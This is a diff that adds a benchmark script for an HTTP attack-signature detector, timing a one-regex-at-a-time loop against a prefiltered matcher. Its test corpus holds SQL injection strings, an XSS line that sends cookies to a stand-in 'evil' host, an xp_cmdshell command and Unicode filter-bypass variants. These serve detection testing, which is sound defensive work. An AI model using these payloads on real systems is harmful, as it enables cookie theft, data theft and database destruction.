@@ -0,0 +1,108 @@
+"""
+Signature Engine Benchmark
+Compares the old one-regex-at-a-time loop with the prefiltered SignatureSet
+on a corpus of benign and malicious HTTP payloads
+
+Usage (from the hunter directory):
+    python benchmarks/bench_signatures.py --payloads 20000 --extra-rules 0 100 500
+"""
+
+import os
+import re
+import sys
+import time
+import random
+import argparse
+
+sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
+
+import config
+from detectors import SignatureSet
+
+BENIGN = [
+    "GET /index.html HTTP/1.1\r\nHost: shop.local\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64)\r\nAccept: text/html\r\n\r\n",
+    "GET /api/products?page=2&sort=price HTTP/1.1\r\nHost: shop.local\r\nAccept: application/json\r\n\r\n",
+    "POST /login HTTP/1.1\r\nHost: shop.local\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\nuser=alice&pass=hunter2",
+    "GET /static/app.js HTTP/1.1\r\nHost: shop.local\r\nIf-None-Match: \"5d8c72a5edda8\"\r\nConnection: keep-alive\r\n\r\n",
+    "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<html><body><p>Select your size from the list below</p></body></html>",
+]
+
+MALICIOUS = [
+    "GET /?id=1' OR '1'='1 HTTP/1.1\r\nHost: shop.local\r\n\r\n",
+    "GET /?search=1 UNION SELECT username, password FROM users-- HTTP/1.1\r\nHost: shop.local\r\n\r\n",
+    "GET /?q=<script>document.location='http://evil/'+document.cookie</script> HTTP/1.1\r\nHost: shop.local\r\n\r\n",
+    "GET /?img=<img src=x onerror=alert(1)> HTTP/1.1\r\nHost: shop.local\r\n\r\n",
+    "POST /admin HTTP/1.1\r\nHost: shop.local\r\n\r\ncmd=1; DROP TABLE orders; exec xp_cmdshell",
+    "GET /?q=<a href='javaſcript:alert(1)'>x</a> HTTP/1.1\r\nHost: shop.local\r\n\r\n",
+    "GET /?q=<ſcript>alert(1)</ſcript> HTTP/1.1\r\nHost: shop.local\r\n\r\n",
+]
+
+
+def build_corpus(count, malicious_ratio):
+    rng = random.Random(42)
+    corpus = []
+    for _ in range(count):
+        source = MALICIOUS if rng.random() < malicious_ratio else BENIGN
+        corpus.append(rng.choice(source)[:config.HTTP_INSPECT_DEPTH])
+    return corpus
+
+
+def extra_rules(count):
+    """Synthetic signatures shaped like the shipped ones, to grow the rule set."""
+    return [("sql_injection", rf"(\bsigword{i}\b.*\bmarker{i}\b)") for i in range(count)]
+
+
+def sequential_matcher(rules):
+    """The pre-SignatureSet behaviour: one compiled regex per rule, tried in order."""
+    compiled = [(category, re.compile(pattern, re.IGNORECASE)) for category, pattern in rules]
+
+    def search(payload):
+        for category, pattern in compiled:
+            match = pattern.search(payload)
+            if match:
+                return category
+        return None
+    return search
+
+
+def prefilter_matcher(rules):
+    signatures = SignatureSet(rules)
+
+    def search(payload):
+        match = signatures.search(payload)
+        return match.category if match else None
+    return search
+
+
+def run(search, corpus):
+    hits = 0
+    start = time.perf_counter()
+    for payload in corpus:
+        if search(payload):
+            hits += 1
+    return time.perf_counter() - start, hits
+
+
+def main():
+    parser = argparse.ArgumentParser(description=__doc__.splitlines()[1])
+    parser.add_argument('--payloads', type=int, default=20000)
+    parser.add_argument('--malicious-ratio', type=float, default=0.1)
+    parser.add_argument('--extra-rules', type=int, nargs='+', default=[0, 100, 500])
+    args = parser.parse_args()
+
+    corpus = build_corpus(args.payloads, args.malicious_ratio)
+    base_rules = [(category, pattern) for category, _, pattern in SignatureSet.from_config().rules]
+
+    print(f"{'rules':>6}{'sequential/s':>15}{'prefilter/s':>13}{'speedup':>9}{'hits':>7}")
+    for extra in args.extra_rules:
+        rules = base_rules + extra_rules(extra)
+        seq_time, seq_hits = run(sequential_matcher(rules), corpus)
+        pre_time, pre_hits = run(prefilter_matcher(rules), corpus)
+        print(f"{len(rules):>6}{args.payloads / seq_time:>15,.0f}{args.payloads / pre_time:>13,.0f}"
+              f"{seq_time / pre_time:>9.2f}{pre_hits:>7}")
+        if seq_hits != pre_hits:
+            print(f"       note: sequential flagged {seq_hits} payloads, prefilter flagged {pre_hits}")
+
+
+if __name__ == "__main__":
+    main()